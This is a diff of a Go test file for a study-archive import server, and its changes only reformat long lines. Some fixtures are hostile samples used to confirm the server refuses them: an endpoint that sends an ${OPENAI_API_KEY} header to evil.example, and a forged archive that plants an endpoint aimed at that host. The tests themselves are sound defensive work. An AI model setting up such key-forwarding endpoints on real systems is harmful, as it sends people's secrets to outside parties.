@@ -24,7 +24,8 @@ func forged(t *testing.T, study string, rewrite func(run map[string]any)) string
 }
 
 // forgedWith also adds files, and says in the manifest what change says.
-func forgedWith(t *testing.T, study string, rewrite func(run map[string]any), more map[string]string, change ...func(*archive.Manifest)) string {
+func forgedWith(t *testing.T, study string, rewrite func(run map[string]any), more map[string]string,
+	change ...func(*archive.Manifest)) string {
 	t.Helper()
 	names, files := unzipped(t, study)
 	const runs = "tables/runs.jsonl"
@@ -143,7 +144,8 @@ func TestAStudyMovesOverHTTP(t *testing.T) {
 		t.Errorf("after import: %v %v", findings, err)
 	}
 	sent[archive.Manifest](c, studiesPath, 200, part{"file", "again.zip", study})
-	for name, parts := range map[string][]part{"no file": {{field: "name", content: "x"}}, "two": {{"file", "a.zip", study}, {"file", "b.zip", study}}, "nothing": {}} {
+	for name, parts := range map[string][]part{"no file": {{field: "name", content: "x"}},
+		"two": {{"file", "a.zip", study}, {"file", "b.zip", study}}, "nothing": {}} {
 		if status, body := c.upload(studiesPath, parts...); status != 422 && status != 400 {
 			t.Errorf("%s: %d %s", name, status, body)
 		}
@@ -160,7 +162,8 @@ func TestStudiesThatAreRefused(t *testing.T) {
 	empty := fresh(t)
 	c := serve(t, Options{Workbench: empty, TempDir: dir})
 	sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip", study})
-	evil := rag.Endpoint{Name: "bot", URL: "https://evil.example/ask", Method: "POST", Answer: "answer", Headers: map[string]string{"X": "${OPENAI_API_KEY}"}}
+	evil := rag.Endpoint{Name: "bot", URL: "https://evil.example/ask", Method: "POST", Answer: "answer",
+		Headers: map[string]string{"X": "${OPENAI_API_KEY}"}}
 	here := evil
 	here.URL, here.Headers = "https://bot.example/ask", nil
 	if _, _, err := empty.Store.PutEndpoint(t.Context(), here, testNow); err != nil {
@@ -192,7 +195,8 @@ func TestStudiesThatAreRefused(t *testing.T) {
 	known := forged(t, study, func(r map[string]any) { asking(t, here)(r); r["id"] = "0123456789ab" })
 	sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip", known}) // a system that is registered here
 	const endpoint = `{"name":"planted","body":"{\"name\":\"planted\",\"url\":\"https://evil.example/\"}","created_at":"2026-11-20T09:00:00Z","changed_at":"2026-11-20T09:00:00Z"}` + "\n"
-	sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip", forgedWith(t, study, same, map[string]string{"tables/endpoints.jsonl": endpoint})})
+	sent[archive.Manifest](c, studiesPath, 200, part{"file", "study.zip",
+		forgedWith(t, study, same, map[string]string{"tables/endpoints.jsonl": endpoint})})
 	if _, err := empty.Store.Endpoint(t.Context(), "planted"); err == nil {
 		t.Error("a study registered an endpoint")
 	}
@@ -243,7 +247,8 @@ func TestOldRepliesArePruned(t *testing.T) {
 		t.Errorf("after: %+v", r)
 	}
 	for body, field := range map[string]string{
-		`{}`: "older_than", `{"older_than":"soon"}`: "older_than", `{"older_than":"-1d"}`: "older_than", `{"older_than":"999999d"}`: "older_than", `{"older_than":"1d","run":"x"}`: "run",
+		`{}`: "older_than", `{"older_than":"soon"}`: "older_than", `{"older_than":"-1d"}`: "older_than",
+		`{"older_than":"999999d"}`: "older_than", `{"older_than":"1d","run":"x"}`: "run",
 	} {
 		if p := c.refused("POST", "/prune", body, 422); p.Field != field && p.Field != "" {
 			t.Errorf("%s blames %q: %s", body, p.Field, p.Detail)
